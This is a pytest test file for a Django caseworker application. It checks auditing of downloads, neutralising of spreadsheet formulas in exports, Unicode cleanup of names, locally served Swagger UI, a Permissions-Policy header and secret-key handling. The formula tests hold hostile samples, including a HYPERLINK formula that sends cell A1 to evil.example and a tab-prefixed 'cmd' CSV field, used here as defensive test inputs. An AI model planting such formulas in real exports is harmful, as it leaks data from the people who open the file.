"""Smaller findings: audited downloads and statistics pages, no formulas in exports, names in
one Unicode form, Swagger UI from this site, Permissions-Policy, no built-in secret key."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from wegweiser.core import exports as core_exports
from wegweiser.core.exports import spreadsheet_safe
from wegweiser.core.models import AuditEntry
from wegweiser.core.text import clean_name
from wegweiser.people.selectors import PersonFilters, person_search
from wegweiser.people.services import person_create, person_update

# --- audit of the reconciliation download and the statistics pages -------------------------


def _registered(caseworker, team, given: str, family: str):
    import datetime as dt

    from wegweiser.cases.services import intake_create

    return intake_create(
        actor=caseworker,
        person_data={
            "given_names_latin": given,
            "family_name_latin": family,
            "date_of_birth": dt.date(1990, 5, 1),
        },
        case_data={"team": team},
        orientation_data={},
    ).person


@pytest.mark.django_db
def test_the_reconciliation_download_is_audited_with_the_ids_it_holds(client, caseworker, team):
    person = _registered(caseworker, team, "Oksana", "Kovalenko")
    upload = SimpleUploadedFile(
        "list.csv",
        (
            "query_id,given_name,family_name\n"
            f"a,{person.given_names_latin},{person.family_name_latin}\n"
        ).encode(),
    )
    client.force_login(caseworker)
    client.post(reverse("people:reconcile"), {"upload": upload, "top": 1})
    assert not AuditEntry.objects.filter(purpose="list_reconciliation_download").exists()
    response = client.get(reverse("people:reconcile_download"))
    assert response.status_code == 200, response.content
    entry = AuditEntry.objects.get(purpose="list_reconciliation_download")
    assert entry.action == "export" and entry.actor == caseworker
    assert entry.object_ids == [person.pk]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("url", "object_type"),
    [
        ("reporting:supply_demand", "reporting.supply_demand"),
        ("reporting:placements", "reporting.placements"),
        ("courses:demand", "courses.demand"),
    ],
)
def test_statistics_pages_are_audited(client, caseworker, url, object_type):
    client.force_login(caseworker)
    assert client.get(reverse(url)).status_code == 200
    entry = AuditEntry.objects.get(object_type=object_type)
    assert entry.action == "read" and entry.actor == caseworker


# --- formulas in exports --------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(start):
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert spreadsheet_safe(text) == "'" + text


def test_harmless_cells_stay_as_they_are():
    assert spreadsheet_safe("Gießen") == "Gießen"
    assert spreadsheet_safe(-3) == -3  # numbers are numbers, not formulas
    assert spreadsheet_safe("") == ""


def test_every_export_uses_the_shared_rule():
    from wegweiser.courses import exports as course_exports
    from wegweiser.occupations import bulk
    from wegweiser.people import list_files
    from wegweiser.reporting import exports as report_exports

    assert report_exports.spreadsheet_safe is core_exports.spreadsheet_safe
    assert course_exports.spreadsheet_safe is core_exports.spreadsheet_safe
    assert list_files.safe_row is core_exports.safe_row
    assert bulk.safe_row is core_exports.safe_row


@pytest.mark.django_db
def test_the_reconciliation_download_holds_no_formula(client, caseworker, team):
    _registered(caseworker, team, "Ali", "Rahimi")
    _registered(caseworker, team, "Sara", "Ahmadi")
    upload = SimpleUploadedFile(
        "list.csv",
        b'query_id,given_name,family_name\n"=HYPERLINK(""http://x.example"")",Ali,Rahimi\n'
        b'"\tcmd",Sara,Ahmadi\n',
    )
    client.force_login(caseworker)
    client.post(reverse("people:reconcile"), {"upload": upload, "top": 1})
    text = client.get(reverse("people:reconcile_download")).content.decode()
    lines = text.splitlines()[1:]
    assert not any(line.startswith(("=", '"=', "\t", '"\t')) for line in lines)
    assert any(line.startswith("'=HYPERLINK") or line.startswith("\"'=HYPERLINK") for line in lines)


# --- names in one Unicode form --------------------------------------------------------------


def test_clean_name_composes_and_drops_invisible_characters():
    assert clean_name("Jose\u0301") == "José"
    assert clean_name("Ah\u200bmad\ufeff") == "Ahmad"
    assert clean_name("\u202eAli\u202c  Rahimi ") == "Ali Rahimi"
    assert clean_name("Ma\u00adria") == "Maria"
    persian = "می\u200cخواهم"  # noqa: RUF001 (Persian keeps its zero-width non-joiner)
    assert clean_name(persian) == persian
    assert clean_name("\u200cAli") == "Ali"


@pytest.mark.django_db
def test_names_are_stored_composed_without_invisible_characters_and_found(caseworker, case):
    person = person_create(
        actor=caseworker,
        given_names_latin="Jose\u0301",
        family_name_latin="Ah\u200bmadi",
        family_name_original="أحمد\u200b",
        date_of_birth="1990-05-01",
    )
    person.refresh_from_db()
    assert person.given_names_latin == "José"
    assert person.family_name_latin == "Ahmadi"
    assert person.family_name_original == "أحمد"
    person_update(actor=caseworker, person=person, data={"given_names_latin": "Rene\u0301\u200d"})
    person.refresh_from_db()
    assert person.given_names_latin == "René"
    # Found by the composed and by the decomposed spelling alike.
    from wegweiser.people.models import Person

    Person.objects.filter(pk=person.pk).update(organisation=case.person.organisation)
    from wegweiser.cases.tests.factories import CaseFactory

    CaseFactory(person=person, team=case.team, caseworker=caseworker)
    for query in ("René Ahmadi", "Rene\u0301 Ah\u200bmadi"):
        page = person_search(user=caseworker, filters=PersonFilters(q=query))
        assert [p.pk for p in page] == [person.pk], query


# --- Swagger UI, headers, secret key ----------------------------------------------------------


@pytest.mark.django_db
def test_api_docs_load_swagger_ui_from_this_site(client, caseworker):
    client.force_login(caseworker)
    response = client.get("/api/docs")
    html = response.content.decode()
    assert response.status_code == 200
    assert "/static/vendor/swagger-ui/swagger-ui-bundle.js" in html
    assert "/static/js/swagger-init.js" in html
    assert "cdn" not in html.lower() and "https://" not in html
    assert "<script>" not in html  # nothing inline: the CSP allows no inline script
    vendor = Path(settings.BASE_DIR) / "static" / "vendor" / "swagger-ui"
    assert (vendor / "swagger-ui-bundle.js").stat().st_size > 1_000_000
    assert (vendor / "swagger-ui.css").exists() and (vendor / "LICENSE").exists()
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp


@pytest.mark.django_db
def test_every_page_sends_a_permissions_policy(client, caseworker):
    client.force_login(caseworker)
    policy = client.get(reverse("cases:my"))["Permissions-Policy"]
    for feature in ("camera=()", "microphone=()", "geolocation=()", "payment=()", "usb=()"):
        assert feature in policy
    assert "publickey-credentials" not in policy  # passkeys keep working
    assert client.get(reverse("accounts:login"))["Permissions-Policy"] == policy


def _settings_key(
    module: str, var_dir: Path, key: str | None = None
) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("WEGWEISER_")}
    env["WEGWEISER_VAR_DIR"] = str(var_dir)
    env["WEGWEISER_ALLOWED_HOSTS"] = "wegweiser.example.org"
    if key:
        env["WEGWEISER_SECRET_KEY"] = key
    code = f"import importlib; print(importlib.import_module({module!r}).SECRET_KEY)"
    return subprocess.run(  # noqa: S603 (our own interpreter and settings)
        [sys.executable, "-c", code],
        env=env,
        cwd=settings.BASE_DIR,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_production_refuses_to_start_without_a_secret_key(tmp_path):
    result = _settings_key("config.settings.production", tmp_path)
    assert result.returncode != 0
    assert "WEGWEISER_SECRET_KEY must be set" in result.stderr
    key = "k" * 60
    assert _settings_key("config.settings.production", tmp_path, key).stdout.strip() == key


def test_without_a_key_each_installation_makes_its_own(tmp_path):
    first = _settings_key("config.settings.base", tmp_path / "a").stdout.strip()
    again = _settings_key("config.settings.base", tmp_path / "a").stdout.strip()
    other = _settings_key("config.settings.demo", tmp_path / "b").stdout.strip()
    assert len(first) >= 50 and first == again and other != first
    assert (tmp_path / "a" / "secret-key").stat().st_mode & 0o077 == 0
    source = (Path(settings.BASE_DIR) / "config" / "settings" / "base.py").read_text()
    assert "insecure" not in source
